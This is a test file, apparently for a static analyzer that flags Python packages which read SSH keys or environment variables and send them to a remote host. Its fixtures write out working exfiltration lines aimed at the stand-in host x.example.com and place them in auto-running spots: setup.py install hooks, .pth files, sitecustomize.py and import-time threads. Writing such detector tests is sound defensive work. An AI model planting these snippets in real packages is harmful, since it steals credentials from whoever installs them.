import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

const STEAL = `requests.post("https://x.example.com", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())`;

describe("triggers", () => {
  it("setup.py top level runs at install", async () => {
    const facts = await analyze({ "setup.py": `import os, requests\n${STEAL}\nfrom setuptools import setup\nsetup(name="x")\n` });
    expect(flowsOf(facts)).toEqual(["ssh-key@setup.py:2 -> http@setup.py:2 https://x.example.com [install]"]);
  });

  it("cmdclass install commands run at install, even from another module", async () => {
    const facts = await analyze({
      "setup.py": `
        from setuptools import setup
        from setuptools.command.develop import develop
        from mypkg.hooks import PostInstall

        class Dev(develop):
            def run(self):
                develop.run(self)
                _beacon()

        def _beacon():
            import os, requests
            requests.get("https://x.example.com/?e=" + str(dict(os.environ)))

        setup(name="mypkg", cmdclass={"develop": Dev, "install": PostInstall})
      `,
      "mypkg/__init__.py": "",
      "mypkg/hooks.py": `
        import os, requests
        from setuptools.command.install import install
        class PostInstall(install):
            def run(self):
                install.run(self)
                ${STEAL}
      `,
    });
    expect(flowsOf(facts)).toEqual([
      "env-dump@setup.py:12 -> http@setup.py:12 https://x.example.com/?e=* [install]",
      "ssh-key@mypkg/hooks.py:6 -> http@mypkg/hooks.py:6 https://x.example.com [install]",
    ]);
  });

  it(".pth import lines run at interpreter start (install)", async () => {
    const facts = await analyze({
      "evil.pth": `/some/path\nimport os, requests; ${STEAL}\n`,
    });
    expect(flowsOf(facts)).toEqual(["ssh-key@evil.pth:2 -> http@evil.pth:2 https://x.example.com [install]"]);
  });

  it("sitecustomize.py runs at install; __init__.py at import; functions when called", async () => {
    const facts = await analyze({
      "sitecustomize.py": `import os, requests\n${STEAL}\n`,
      "pkg/__init__.py": `import os, requests\n${STEAL}\ndef later():\n    ${STEAL}\n`,
    });
    expect(flowsOf(facts)).toEqual([
      "ssh-key@pkg/__init__.py:2 -> http@pkg/__init__.py:2 https://x.example.com [import]",
      "ssh-key@pkg/__init__.py:4 -> http@pkg/__init__.py:4 https://x.example.com [call]",
      "ssh-key@sitecustomize.py:2 -> http@sitecustomize.py:2 https://x.example.com [install]",
    ]);
  });

  it("a function called from top level, or started as a thread, carries the file's trigger", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, threading, requests
        def direct():
            ${STEAL}
        def threaded():
            ${STEAL}
        def never():
            ${STEAL}
        direct()
        threading.Thread(target=threaded, daemon=True).start()
      `,
    });
    expect(flowsOf(facts).map((f) => f.replace(/ -> .*\[/, " ["))).toEqual([
      "ssh-key@pkg/__init__.py:3 [import]",
      "ssh-key@pkg/__init__.py:5 [import]",
      "ssh-key@pkg/__init__.py:7 [call]",
    ]);
  });

  it("a module imported by setup.py runs at install", async () => {
    const facts = await analyze({
      "setup.py": `import mypkg\nfrom setuptools import setup\nsetup(name="mypkg", version=mypkg.__version__)\n`,
      "mypkg/__init__.py": `import os, requests\n__version__ = "1.0"\n${STEAL}\n`,
    });
    expect(flowsOf(facts)).toEqual(["ssh-key@mypkg/__init__.py:3 -> http@mypkg/__init__.py:3 https://x.example.com [install]"]);
  });

  it("`if __name__ == '__main__'` in a module only runs as a script", async () => {
    const facts = await analyze({ "pkg/tool.py": `import os, requests\nif __name__ == "__main__":\n    ${STEAL}\n` });
    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/tool.py:3 -> http@pkg/tool.py:3 https://x.example.com [call]"]);
  });
});
